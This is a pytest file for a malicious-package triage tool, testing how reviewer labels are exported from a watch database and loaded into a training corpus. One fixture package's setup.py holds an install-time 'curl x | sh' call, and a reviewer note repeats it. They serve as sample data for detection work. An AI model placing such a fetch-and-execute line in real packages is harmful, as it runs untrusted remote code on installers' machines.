"""Labels from the triage app go back into the corpus.

`malseq serve --export-labels DIR` writes the labelled releases of a watch database as a labelled
folder (archives + labels.tsv); the lab's corpus loads it like any other source. The archives come
through the registry client from a local registry serving recorded-shape documents (PEP 691 JSON
for PyPI, a package document for npm), and must be the files the watch scanned.
"""

from __future__ import annotations

import base64
import csv
import gzip
import hashlib
import io
import json
import tarfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
from local_http import isolate_registry_config, local_http_server

from malseq import _cli
from malseq.intake.registry import PYPI_JSON
from malseq.serve.export import LABELS_FILE, NOT_EXPORTED_FILE, STRATUM_FALSE_ALARM, STRATUM_REVIEWED
from malseq.watch.store import Label, NewRelease, ScanRecord, WatchStore, open_store
from malseq_lab.corpus.pipeline import Sources, load_sources
from malseq_lab.corpus.records import BENIGN, MALICIOUS, STRATUM_MALICIOUS

T0 = 1_800_000_000.0  # 2027-01-15


def _tar_gz(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


class _Registry:
    def __init__(self) -> None:
        self.routes: dict[str, tuple[bytes, str]] = {}
        self.url = ""

    def pypi(self, name: str, version: str, data: bytes, listed_sha256: str | None = None) -> str:
        filename = f"{name}-{version}.tar.gz"
        self.routes[f"/files/{filename}"] = (data, "application/octet-stream")
        sha = hashlib.sha256(data).hexdigest()
        doc = {"meta": {"api-version": "1.1"}, "name": name, "versions": [version],
               "files": [{"filename": filename, "url": f"/files/{filename}",
                          "hashes": {"sha256": listed_sha256 or sha}}]}
        self.routes[f"/simple/{name}/"] = (json.dumps(doc).encode(), PYPI_JSON)
        return sha

    def npm(self, name: str, version: str, data: bytes) -> str:
        self.routes[f"/tarballs/{name}-{version}.tgz"] = (data, "application/octet-stream")
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
        doc = {"name": name, "dist-tags": {"latest": version}, "versions": {version: {
            "name": name, "version": version,
            "dist": {"tarball": f"{self.url}/tarballs/{name}-{version}.tgz", "integrity": integrity}}}}
        self.routes[f"/npm/{name}"] = (json.dumps(doc).encode(), "application/json")
        return hashlib.sha256(data).hexdigest()


@pytest.fixture
def registry(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[_Registry]:
    reg = _Registry()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802
            body, kind = reg.routes.get(self.path, (b'{"error": "not found"}', "application/json"))
            self.send_response(200 if self.path in reg.routes else 404)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            pass

    isolate_registry_config(monkeypatch, tmp_path)  # never the user's pip/npm configuration
    with local_http_server(Handler) as url:
        reg.url = url
        yield reg


def _done(store: WatchStore, eco: str, name: str, version: str, sha256: str | None, verdict: str,
          score: float) -> int:
    rid = store.enqueue(NewRelease(eco, name, version, "names"), T0)
    assert rid is not None
    claimed = store.claim_next("w", T0 + 1, 60)
    assert claimed is not None and claimed.id == rid
    report = {"target": claimed.target, "package": {"origin": {"kind": "registry", "sha256": sha256}},
              "score": score, "verdict": verdict}
    assert store.complete(claimed, ScanRecord(T0 + 2, score, verdict, "m", "k", "low-fpr", json.dumps(report)))
    return rid


def test_exported_labels_load_into_the_corpus(registry: _Registry, tmp_path: Path) -> None:
    evil = _tar_gz({"evil-1.0/setup.py": b"import os\nos.system('curl x | sh')\n"})
    fine = _tar_gz({"fine-2.0/setup.py": b"from setuptools import setup\nsetup()\n"})
    alarm = _tar_gz({"package/package.json": b'{"name": "alarm", "version": "1.0.0"}'})
    changed = _tar_gz({"swapped-1.0/setup.py": b"print('the file on the registry now')\n"})
    evil_sha, fine_sha = registry.pypi("evil", "1.0", evil), registry.pypi("fine", "2.0", fine)
    alarm_sha = registry.npm("alarm", "1.0.0", alarm)
    registry.pypi("swapped", "1.0", changed)
    db = tmp_path / "watch.db"
    with open_store(db) as store:
        r_evil = _done(store, "pypi", "evil", "1.0", evil_sha, "malicious", 0.99)
        r_fine = _done(store, "pypi", "fine", "2.0", fine_sha, "benign", 0.01)
        r_alarm = _done(store, "npm", "alarm", "1.0.0", alarm_sha, "malicious", 0.97)
        r_unsure = _done(store, "pypi", "fine", "2.1", None, "malicious", 0.9)
        r_swapped = _done(store, "pypi", "swapped", "1.0", "0" * 64, "malicious", 0.95)
        _done(store, "pypi", "unlabelled", "1.0", None, "malicious", 0.9)
        store.add_label(r_evil, Label.BENIGN, "ann", T0 + 10)
        store.add_label(r_evil, Label.MALICIOUS, "bob", T0 + 20, "second look:\tcurl | sh")  # the latest wins
        store.add_label(r_fine, Label.BENIGN, "ann", T0 + 30)
        store.add_label(r_alarm, Label.BENIGN, "ann", T0 + 40, "a false alarm")
        store.add_label(r_unsure, Label.UNSURE, "ann", T0 + 50)
        store.add_label(r_swapped, Label.MALICIOUS, "ann", T0 + 60)

    out = tmp_path / "export"
    code = _cli.main(["serve", "--db", str(db), "--export-labels", str(out), "--pypi-index-url",
                      f"{registry.url}/simple/", "--npm-registry", f"{registry.url}/npm/",
                      "--cache-dir", str(tmp_path / "cache")])
    assert code == 3  # one release could not be exported: the registry's file is not the one scanned
    with open(out / NOT_EXPORTED_FILE, encoding="utf-8") as fh:
        missing = list(csv.DictReader(fh, delimiter="\t"))
    assert [(m["target"], m["label"]) for m in missing] == [("pypi:swapped==1.0", "malicious")]
    assert "not the file scanned" in missing[0]["reason"]

    samples = load_sources(Sources(folders=[(out, None)]))  # what `malseq corpus build --folder DIR` loads
    by_name = {s.name: s for s in samples}
    assert set(by_name) == {"evil", "fine", "alarm"}  # unsure and unlabelled releases are left out
    assert (by_name["evil"].label, by_name["evil"].stratum, by_name["evil"].ecosystem) == (
        MALICIOUS, STRATUM_MALICIOUS, "pypi")
    assert (by_name["fine"].label, by_name["fine"].stratum) == (BENIGN, STRATUM_REVIEWED)
    assert (by_name["alarm"].label, by_name["alarm"].stratum, by_name["alarm"].ecosystem) == (
        BENIGN, STRATUM_FALSE_ALARM, "npm")  # flagged, then reviewed benign: a hard negative
    assert {s.sha256 for s in samples} == {evil_sha, fine_sha, alarm_sha}  # the archives the watch scanned
    assert all(Path(s.path).read_bytes() for s in samples) and by_name["fine"].version == "2.0"
    assert {s.added for s in samples} == {"2027-01-15"} and {s.source for s in samples} == {"watch"}
    with open(out / LABELS_FILE, encoding="utf-8") as fh:
        rows = {r["name"]: r for r in csv.DictReader(fh, delimiter="\t")}
    assert rows["evil"]["reviewer"] == "bob" and rows["evil"]["note"] == "second look: curl | sh"

    # a second export reuses what is there and the cache: same rows, no error for the exported ones
    registry.routes.clear()  # the registry is gone; the cache is enough
    again = tmp_path / "again"
    assert _cli.main(["serve", "--db", str(db), "--export-labels", str(again), "--offline",
                      "--cache-dir", str(tmp_path / "cache")]) == 3
    assert {s.sha256 for s in load_sources(Sources(folders=[(again, None)]))} == {evil_sha, fine_sha, alarm_sha}
